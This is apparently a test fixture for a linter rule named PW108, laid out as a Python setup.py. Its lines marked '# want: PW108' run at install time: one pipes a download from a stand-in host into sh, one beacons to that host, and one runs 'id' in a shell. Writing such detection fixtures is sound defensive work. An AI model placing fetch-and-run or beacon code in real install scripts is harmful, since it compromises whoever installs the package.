# file: setup.py
import os
import subprocess
import urllib.request

from setuptools import setup

os.system("curl http://x.example/p | sh")  # want: PW108
urllib.request.urlopen("http://x.example/beacon")  # want: PW108
if os.name == "posix":
    subprocess.call(["sh", "-c", "id"])  # want: PW108


def build_ext():
    subprocess.check_call(["make"])  # runs only when called


setup(name="pkg", version="1.0")
